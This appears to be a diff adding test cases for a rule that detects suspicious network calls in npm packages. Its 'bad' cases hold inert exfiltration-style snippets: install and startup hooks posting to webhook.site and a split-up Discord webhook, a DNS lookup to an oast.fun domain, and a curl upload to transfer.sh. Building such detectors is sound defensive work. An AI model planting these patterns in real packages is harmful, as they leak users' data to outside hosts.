@@ -1,0 +1,60 @@
+import { defineCases } from '../../src/rule.ts';
+
+// The addresses are of services, without anybody's token; the code is only ever parsed.
+const install = { scripts: { postinstall: 'node setup.js' } };
+
+export default defineCases({
+  bad: [
+    {
+      name: 'a request collector, when the command starts',
+      manifest: { bin: './cli.js', main: undefined },
+      files: {
+        'cli.js':
+          "#!/usr/bin/env node\nconst r = process.env.GITHUB_REPOSITORY;\nif (r) fetch('https://webhook.site/00000000-inert?r=' + r)",
+      },
+    },
+    {
+      name: 'a webhook of a chat at install, put together from parts',
+      manifest: install,
+      files: {
+        'index.js': '',
+        'setup.js':
+          "const https = require('https');\nconst where = ['https://discord', '.com/api/web', 'hooks/0/inert'].join('');\nconst r = https.request(where, { method: 'POST' });\nr.end('{}')",
+      },
+    },
+    {
+      name: 'a name under a domain that logs lookups',
+      code: "require('dns').lookup('inert.abcdef.oast.fun', () => {})",
+    },
+    {
+      name: 'curl to a service that takes files',
+      manifest: install,
+      files: {
+        'index.js': '',
+        'setup.js': "require('child_process').exec('curl -T inert.txt https://transfer.sh/inert')",
+      },
+    },
+    {
+      name: 'a page that says where to go',
+      code: "fetch('https://gist.githubusercontent.com/inert/raw/x.json').then((r) => r.json())",
+    },
+  ],
+  ok: [
+    {
+      name: 'a notification tool with the user’s webhook',
+      code: 'exports.notify = (text) => fetch(process.env.DISCORD_WEBHOOK_URL, { method: "POST", body: text })',
+    },
+    {
+      name: 'a Telegram client that is called',
+      code: 'exports.send = (token, chat, text) => fetch(`https://api.telegram.org/bot${token}/sendMessage`, { method: "POST", body: JSON.stringify({ chat, text }) })',
+    },
+    {
+      name: 'advice how to try it out',
+      code: "console.log('Create an address at https://webhook.site and pass it with --callback'); fetch('https://api.weather.example')",
+    },
+    {
+      name: 'a tunnel that the user opens',
+      code: "const { execFile } = require('child_process'); exports.open = (port) => execFile('ngrok', ['http', String(port)])",
+    },
+  ],
+});
